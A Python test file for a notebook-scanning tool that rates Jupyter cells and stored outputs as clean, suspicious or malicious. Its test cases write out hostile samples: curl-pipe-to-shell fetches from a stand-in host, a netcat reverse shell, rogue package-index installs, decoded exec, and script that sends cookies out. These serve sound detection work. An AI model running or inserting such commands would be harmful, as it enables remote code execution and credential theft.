"""Notebooks: cells are code, lines for the shell are commands, stored output can run."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Verdict
from scanning.container_making import Judged, judge


def notebook(*cells: str, **fields: Any) -> dict[str, Any]:
    rows = [
        {"cell_type": "code", "source": text.splitlines(keepends=True), "metadata": {},
         "outputs": [], "execution_count": 1} | fields
        for text in cells
    ]  # fmt: skip
    return {"cells": rows, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def judged_of(*cells: str, **fields: Any) -> Judged:
    return judge(json.dumps(notebook(*cells, **fields)).encode(), "demo.ipynb")


@pytest.mark.parametrize(
    ("cell", "rule"),
    [
        ("x = 1\n!curl http://x.invalid/a | sh", "notebook.hostile-command"),
        ("files = !wget -qO- http://x.invalid/a | bash", "notebook.hostile-command"),
        ("%%bash\ncurl http://x.invalid/a | sh", "notebook.hostile-command"),
        ("%sx curl http://x.invalid/a | sh", "notebook.hostile-command"),
        ("%system curl http://x.invalid/a | sh", "notebook.hostile-command"),
        ("!curl http://x.invalid/a \\\n | sh", "notebook.hostile-command"),
        ("get_ipython().system('curl http://x.invalid/a | sh')", "code.hostile-command"),
        ("get_ipython().run_cell_magic('bash', '', 'curl http://x.invalid/a | sh')",
         "code.hostile-command"),
        ("%run http://x.invalid/a.py", "notebook.hostile-command"),
        ("if True:\n    !nc -e /bin/sh 198.51.100.1 4444", "notebook.hostile-command"),
        ("!pip install --index-url http://x.invalid/simple evil", "notebook.installs-elsewhere"),
        ("%pip install --trusted-host x.invalid -i http://x.invalid evil",
         "notebook.installs-elsewhere"),
        ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "code.executes-decoded"),
    ],
)  # fmt: skip
def test_cells_that_act_are_malicious(cell: str, rule: str) -> None:
    judged = judged_of("import torch", cell)
    assert rule in judged.rules
    assert judged.verdict is Verdict.MALICIOUS, judged
    assert any("cell 2" in finding.evidence for finding in judged.findings)


@pytest.mark.parametrize("before", ["", "%%time\n", "# x\n"])
def test_commands_of_a_cell_are_for_a_person_to_look_at(before: str) -> None:
    judged = judged_of(f"{before}import os\nos.system('touch x')")
    assert judged.rules == {"code.shell"}
    assert judged.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "cell",
    [
        "import torch\n%matplotlib inline\nmodel.eval()",
        "!pip install -q transformers==4.40 accelerate",
        "!pip install git+https://github.com/huggingface/transformers",
        "%pip install torch --index-url https://download.pytorch.org/whl/cu121",
        "!nvidia-smi\n!ls -la data",
        "!wget https://x.invalid/data.zip && unzip data.zip",
        "%%time\nx = sum(range(10))",
        "%%writefile train.py\nimport torch",
        "%load_ext autoreload\n%autoreload 2",
        "model?\n??model.forward",
        "%cd data\n%env TOKENIZERS_PARALLELISM=false",
        "for i in range(2):\n    !echo {i}\n    print(i)",
        "%%html\n<b>x</b>",
        "await model.chat('x')",
        "%timeit model(x)",
    ],
)
def test_ordinary_cells_are_clean(cell: str) -> None:
    judged = judged_of(cell)
    assert judged.verdict is Verdict.CLEAN, judged


@pytest.mark.parametrize(
    ("data", "verdict"),
    [
        ({"text/html": "<table><tr><td>1</td></tr></table>"}, Verdict.CLEAN),
        ({"text/html": ["<script>", "fetch('http://x.invalid/?' + document.cookie)", "</script>"]},
         Verdict.MALICIOUS),
        ({"text/html": "<img src=x onerror=\"eval(atob('eA=='))\">"}, Verdict.MALICIOUS),
        ({"application/javascript": "fetch('http://x.invalid')"}, Verdict.MALICIOUS),
        ({"application/javascript": "element.text('x')"}, Verdict.CLEAN),
        ({"image/png": "iVBORw0KGgo="}, Verdict.CLEAN),
    ],
)  # fmt: skip
def test_stored_output_is_judged_by_what_it_reaches(data: Any, verdict: Verdict) -> None:
    outputs = [{"output_type": "display_data", "data": data, "metadata": {}}]
    assert judged_of("x", outputs=outputs).verdict is verdict


def test_a_hidden_cell_that_acts_is_told_of() -> None:
    hidden = {"jupyter": {"source_hidden": True}}
    assert "notebook.hidden-cell" in judged_of("import os\nos.system('x')", metadata=hidden).rules
    assert judged_of("x = 1", metadata=hidden).verdict is Verdict.CLEAN


def test_a_broken_cell_is_still_looked_through() -> None:
    judged = judged_of("print 'x'\nos.system('curl http://x.invalid/a | sh')")
    assert "code.hostile-command" in judged.rules


def test_old_notebooks_are_read() -> None:
    cells = [{"cell_type": "code", "input": ["import os\n", "os.system('x')"], "outputs": []}]
    old = {"worksheets": [{"cells": cells}], "nbformat": 3, "nbformat_minor": 0, "metadata": {}}
    assert "code.shell" in judge(json.dumps(old).encode(), "old.ipynb").rules


def test_a_notebook_is_known_by_its_content() -> None:
    raw = json.dumps(notebook("import os\nos.system('x')")).encode()
    assert "code.shell" in judge(raw, "data.json").rules


def test_cells_of_other_languages_are_no_python() -> None:
    assert judged_of("%%R\nx <- c(1, 2)").verdict is Verdict.CLEAN
    assert judged_of("this is = no program(").verdict is Verdict.CLEAN
    julia = notebook("x = [1 2; 3 4]", "run(`ls`)")
    julia["metadata"] = {"language_info": {"name": "julia"}}
    assert judge(json.dumps(julia).encode(), "a.ipynb").verdict is Verdict.CLEAN


@given(st.integers(0, 2**32))
@settings(max_examples=60, deadline=None)
def test_no_change_to_a_notebook_makes_the_reader_fail(seed: int) -> None:
    rng = random.Random(seed)
    raw = bytearray(json.dumps(notebook("import os\nos.system('x')", "!ls")).encode())
    for _ in range(rng.randint(1, 5)):
        at = rng.randrange(len(raw))
        raw[at : at + rng.randint(0, 3)] = rng.randbytes(rng.randint(0, 3))
    judge(bytes(raw), "demo.ipynb")


@pytest.mark.parametrize("cells", [None, 1, [1], [{"cell_type": "code"}], [{"source": 1}]])
def test_a_notebook_of_a_wrong_shape_ends_with_an_answer(cells: Any) -> None:
    judge(json.dumps({"cells": cells, "nbformat": 4}).encode(), "demo.ipynb")
